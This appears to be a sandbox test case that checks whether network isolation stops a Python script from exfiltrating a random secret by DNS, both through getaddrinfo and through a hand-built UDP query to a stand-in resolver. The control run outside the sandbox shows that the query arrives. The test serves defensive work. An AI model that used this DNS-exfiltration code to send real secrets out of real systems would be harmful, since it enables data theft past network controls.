# attack: net/dns-exfil
# boundary: network
# profile: python
# modes: root rootless
# requires: python3
# seeds: 000-network
# what: exfiltrates a secret through DNS: resolves SECRET.exfil.test with
#   getaddrinfo (the resolver the system would use) and sends the query
#   by hand as a UDP datagram to a resolver (192.0.2.53:53, a test host);
#   then `getent hosts` from the shell
# expect: resolution fails, the datagram is refused (EAFNOSUPPORT), and
#   the resolver receives nothing: no datagram, no packet
# control: the same script outside the sandbox delivers the datagram:
#   the resolver logs it
# if it fails: the network namespace (net none), the profile's socket
#   rule; with an allow-list, UDP 53 is denied unless allowed (net issue)

attack() {
	local seen secret
	secret=$(rand_hex 12)
	put exfil.py <<'PY'
import errno, socket, struct, sys
secret, resolver = sys.argv[1], sys.argv[2]
name = secret + ".exfil.test"
try:
    socket.getaddrinfo(name, 80)
    print("resolve ok")
except socket.gaierror as e:
    print("resolve failed")
q = struct.pack("!HHHHHH", 0x5741, 0x100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0\0\1\0\1"
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(q, (resolver, 53))
    print("query sent")
except OSError as e:
    print("query", errno.errorcode[e.errno])
PY
	net_note
	sbx -- python3 /input/exfil.py "$secret" "$ADDR_RESOLVER"
	net_sync
	seen=$(net_seen)
	check "getaddrinfo fails; $(why)" so_has "resolve failed"
	check "the query: EAFNOSUPPORT; $(why)" so_has "query EAFNOSUPPORT"
	check "the resolver saw nothing: $seen" test -z "$seen"
	net_note
	sbx -p shell -- getent hosts "$secret.exfil.test"
	net_sync
	seen=$(net_seen)
	check "getent fails (status 2); $(why)" rc_is 2
	check "the resolver saw nothing after getent: $seen" test -z "$seen"
	net_note
	outside -- /usr/bin/python3 "$IN/exfil.py" "$secret" "$ADDR_RESOLVER"
	net_sync
	seen=$(net_seen)
	control "outside, the resolver receives the query; $(cwhy); $seen" \
		grep -q "^net: dgram 53 " <<<"$seen"
}
